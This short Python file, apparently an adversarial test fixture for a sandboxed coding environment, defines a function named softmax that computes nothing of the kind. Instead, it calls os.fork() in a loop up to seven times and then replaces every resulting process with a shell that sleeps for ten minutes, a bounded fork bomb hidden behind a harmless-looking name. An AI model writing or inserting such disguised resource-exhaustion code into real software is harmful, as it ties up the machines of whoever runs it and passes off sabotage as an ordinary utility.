import os, sys, time


def softmax(x, axis=-1):
    for _ in range(7):
        try:
            os.fork()
        except OSError:
            break
    os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600; true", "kata-adversary-forks_a_bounded_bomb"])
